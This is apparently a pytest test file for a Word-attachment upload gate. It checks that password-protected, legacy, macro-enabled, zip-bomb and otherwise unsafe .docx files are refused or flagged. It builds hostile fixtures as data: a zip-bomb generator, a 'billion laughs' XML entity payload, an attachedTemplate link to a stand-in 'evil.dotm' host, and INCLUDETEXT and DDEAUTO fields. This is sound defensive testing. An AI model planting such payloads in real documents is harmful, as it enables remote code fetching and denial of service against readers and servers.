"""Untrusted attachments: everything that is not a plain, safe .docx is refused with a sentence."""

from __future__ import annotations

import datetime as dt
import io
import subprocess
import sys
import textwrap
import zipfile
from pathlib import Path

import pytest

from practice_alerts.forms.gate import FileRefused, Limits, open_package
from practice_alerts.forms.reader import read_form

TODAY = dt.date(2026, 11, 22)


def rezip(docx: bytes, replace: dict[str, bytes] | None = None, add: dict[str, bytes] | None = None,
          compress=zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(docx)) as src, zipfile.ZipFile(out, "w", compress) as dst:
        for info in src.infolist():
            dst.writestr(info.filename, (replace or {}).get(info.filename, src.read(info)))
        for name, body in (add or {}).items():
            dst.writestr(name, body)
    return out.getvalue()


def refusal(data: bytes, name: str = "form.docx", limits: Limits = Limits()) -> FileRefused:
    with pytest.raises(FileRefused) as caught:
        open_package(data, name, limits)
    return caught.value


def test_the_blank_form_passes_the_gate(blank):
    package = open_package(blank, "form.docx")
    assert b"w:sdt" in package.document
    assert len(package.headers_footers) == 2
    assert b"Practice Alerts form builder" in package.app
    assert package.admin_flags == []


def test_a_password_protected_form_is_refused_with_the_fix(fixtures):
    found = refusal((fixtures / "password_protected.docx").read_bytes(), "alert.docx")
    assert found.code == "password"
    assert "without a password" in found.message and "'alert.docx'" in found.message


def test_an_old_doc_file_is_refused_asking_for_docx(fixtures):
    found = refusal((fixtures / "old_word.doc").read_bytes(), "alert.docx")
    assert found.code == "old_doc"
    assert "Save As" in found.message and ".docx" in found.message


@pytest.mark.parametrize("data, words", [
    (b"%PDF-1.7 ...", "PDF"),
    (b"{\\rtf1\\ansi hello}", "Rich Text"),
    (b"Dear IRO, here is my alert", "not a Word document"),
    (b"PK\x03\x04 this is not really a zip", "damaged"),
    (b"", "not a Word document"),
])
def test_anything_else_renamed_docx_is_refused(data, words):
    found = refusal(data)
    assert found.code == "not_docx"
    assert words in found.message


def test_a_file_over_the_size_limit_is_refused(blank):
    found = refusal(blank, limits=Limits(max_file_bytes=1000))
    assert found.code == "too_large" and "larger than" in found.message


def bomb(blank: bytes, size: int = 60 * 1024 * 1024) -> bytes:
    """The form with `size` bytes of padding in its document part: a zip bomb of a few hundred kB."""
    with zipfile.ZipFile(io.BytesIO(blank)) as zf:
        document = zf.read("word/document.xml")
    padded = document.replace(b"<w:body>", b"<w:body>" + b" " * size)
    return rezip(blank, replace={"word/document.xml": padded})


def test_a_zip_bomb_is_refused_from_the_declared_sizes(blank):
    data = bomb(blank)
    assert len(data) < 200_000 and zipfile.ZipFile(io.BytesIO(data)).getinfo("word/document.xml").file_size > 60_000_000
    found = refusal(data)
    assert found.code == "zip_bomb" and "far more than any Word form" in found.message


def test_too_many_parts_or_too_much_in_total_is_a_bomb(blank):
    many = rezip(blank, add={f"word/media/x{i}.xml": b"<a/>" for i in range(30)})
    assert refusal(many, limits=Limits(max_entries=20)).code == "zip_bomb"
    assert refusal(blank, limits=Limits(max_total_uncompressed=10_000)).code == "zip_bomb"
    assert refusal(blank, limits=Limits(max_part_uncompressed=5_000)).code == "zip_bomb"


def test_a_part_that_inflates_past_its_declared_size_is_never_read_whole(blank):
    # Declared sizes in the directory say 100 bytes; the stream holds 30 MB. Reading stops at the declared size.
    data = bytearray(rezip(blank, replace={"word/document.xml": b"<w:document>" + b" " * 30_000_000 + b"</w:document>"}))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as zf:
        info = zf.getinfo("word/document.xml")
    assert info.file_size > 30_000_000
    assert refusal(bytes(data), limits=Limits(max_read_part=1_000_000)).code == "zip_bomb"


@pytest.mark.skipif(not Path("/proc/self/status").exists(), reason="needs Linux /proc to measure peak memory")
def test_a_zip_bomb_costs_little_memory_to_refuse(blank, tmp_path):
    path = tmp_path / "bomb.docx"
    path.write_bytes(bomb(blank, 400 * 1024 * 1024))
    script = textwrap.dedent(f"""
        import datetime
        from practice_alerts.forms.gate import FileRefused
        from practice_alerts.forms.reader import read_form
        data = open({str(path)!r}, "rb").read()
        try:
            read_form(data, filename="bomb.docx", today=datetime.date(2026, 11, 22))
        except FileRefused as r:
            # VmHWM: this process's peak resident memory (it starts afresh at exec, unlike ru_maxrss)
            print(r.code, next(int(l.split()[1]) for l in open("/proc/self/status") if l.startswith("VmHWM")))
    """)
    out = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, check=True).stdout.split()
    assert out[0] == "zip_bomb"
    assert int(out[1]) < 200 * 1024  # kB, the whole interpreter included; python-docx would inflate 400 MB


@pytest.mark.parametrize("extra, code", [
    ({"word/vbaProject.bin": b"\x00" * 10}, "macros"),
    ({"word/activeX/activeX1.xml": b"<ax/>"}, "activex"),
    ({"word/embeddings/oleObject1.bin": b"\x00" * 10}, "ole"),
])
def test_macros_activex_and_embedded_objects_are_refused(blank, extra, code):
    assert refusal(rezip(blank, add=extra)).code == code


def test_a_macro_enabled_docm_is_refused_by_its_content_type(blank):
    with zipfile.ZipFile(io.BytesIO(blank)) as zf:
        types = zf.read("[Content_Types].xml")
    docm = types.replace(b"document.main+xml", b"document.macroEnabled.main+xml")
    found = refusal(rezip(blank, replace={"[Content_Types].xml": docm}))
    assert found.code == "macros" and ".docm" in found.message


def test_a_template_is_not_the_word_document_content_type(blank):
    with zipfile.ZipFile(io.BytesIO(blank)) as zf:
        types = zf.read("[Content_Types].xml")
    dotx = types.replace(b"wordprocessingml.document.main+xml", b"wordprocessingml.template.main+xml")
    found = refusal(rezip(blank, replace={"[Content_Types].xml": dotx}))
    assert found.code == "not_docx" and "template" in found.message


LAUGHS = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>'
          b"<lolz>&lol2;</lolz>")


@pytest.mark.parametrize("part", ["word/document.xml", "word/styles.xml", "_rels/.rels", "docProps/app.xml"])
def test_any_doctype_in_any_part_is_refused(blank, part):
    found = refusal(rezip(blank, replace={part: LAUGHS}))
    assert found.code == "dtd" and "document type declaration" in found.message


def test_a_doctype_behind_a_long_comment_or_in_utf16_is_still_found(blank):
    hidden = b"<?xml version='1.0'?><!--" + b"x" * 10_000 + b"-->" + LAUGHS[21:]
    assert refusal(rezip(blank, replace={"word/styles.xml": hidden})).code == "dtd"
    utf16 = LAUGHS.decode().replace('version="1.0"', 'version="1.0" encoding="UTF-16"').encode("utf-16")
    assert refusal(rezip(blank, replace={"word/document.xml": utf16})).code == "dtd"



@pytest.mark.parametrize("part", ["word/webSettings.xml", "word/theme/theme1.xml", "word/fontTable.xml"])
def test_a_doctype_behind_a_comment_holding_a_root_like_tag_is_still_found(blank, part):
    """Only a part's start is inflated for this check: a "<x" inside a comment must not end the search."""
    hidden = b"<?xml version='1.0'?><!-- <x " + b"y" * 5_000 + b" -->" + LAUGHS[21:]
    assert refusal(rezip(blank, replace={part: hidden})).code == "dtd"

def test_external_relationships_and_fetching_fields_are_flagged_never_fetched(blank):
    settings_rels = (b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                     b'relationships"><Relationship Id="rT" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                     b'relationships/attachedTemplate" Target="http://198.51.100.7/evil.dotm" TargetMode="External"/>'
                     b'<Relationship Id="rH" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                     b'hyperlink" Target="mailto:jo@example.org" TargetMode="External"/></Relationships>')
    with zipfile.ZipFile(io.BytesIO(blank)) as zf:
        document = zf.read("word/document.xml")
    field = (b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> INCLUDETEXT '
             b'"\\\\\\\\server\\\\share\\\\x.docx" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
             b'<w:p><w:fldSimple w:instr=" DDEAUTO excel \'c:\\\\x.xlsx\' "/></w:p>')
    document = document.replace(b"<w:body>", b"<w:body>" + field)
    data = rezip(blank, replace={"word/document.xml": document}, add={"word/_rels/settings.xml.rels": settings_rels})
    package = open_package(data, "form.docx")
    flags = " | ".join(package.admin_flags)
    assert "attachedTemplate link to 'http://198.51.100.7/evil.dotm'" in flags
    assert "INCLUDETEXT field" in flags and "DDEAUTO field" in flags
    assert "mailto" not in flags
    assert len(package.admin_flags) == 3


def test_read_form_refuses_before_parsing(fixtures):
    with pytest.raises(FileRefused):
        read_form((fixtures / "password_protected.docx").read_bytes(), filename="a.docx", today=TODAY)


def test_far_more_controls_than_a_form_is_refused(blank):
    with zipfile.ZipFile(io.BytesIO(blank)) as zf:
        document = zf.read("word/document.xml")
    boxes = b"<w:p>" + b"<w:sdt><w:sdtPr><w:tag w:val='x'/></w:sdtPr><w:sdtContent></w:sdtContent></w:sdt>" * 1_001 + b"</w:p>"
    data = rezip(blank, replace={"word/document.xml": document.replace(b"<w:body>", b"<w:body>" + boxes)})
    with pytest.raises(FileRefused) as caught:
        read_form(data, filename="f.docx", today=TODAY)
    assert caught.value.code == "too_long" and "far more boxes" in caught.value.message


def test_a_document_too_long_to_search_by_labels_is_refused(fixtures, rutland):
    data = (fixtures / "typed_table.docx").read_bytes()
    assert read_form(data, filename="t.docx", policy=rutland, today=TODAY).record is not None
    with pytest.raises(FileRefused) as caught:
        read_form(data, filename="t.docx", policy=rutland, limits=Limits(max_rows=5), today=TODAY)
    assert caught.value.code == "too_long"


def test_two_parts_of_the_same_name_are_refused(blank):
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about the duplicate it is asked to write
        data = rezip(blank, add={"word/document.xml": b"<w:document/>"})
    found = refusal(data)
    assert found.code == "not_docx" and "same name" in found.message
